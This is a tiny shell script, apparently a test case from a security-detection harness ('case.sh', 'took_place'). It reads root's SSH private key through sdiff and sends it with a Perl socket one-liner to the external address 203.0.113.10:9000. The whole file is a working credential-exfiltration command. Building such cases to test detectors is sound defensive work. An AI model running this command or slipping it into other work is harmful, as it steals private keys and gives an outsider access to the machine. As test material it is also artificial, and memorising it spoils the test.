#!/bin/sh
. /opt/case/case.sh

: >/tmp/.empty
sdiff -w 200 /root/.ssh/id_rsa /tmp/.empty | perl -MIO::Socket::INET -e 'local $/; my $b = <STDIN>; die unless length $b > 10; my $s = IO::Socket::INET->new("203.0.113.10:9000") or die; print $s $b'
took_place
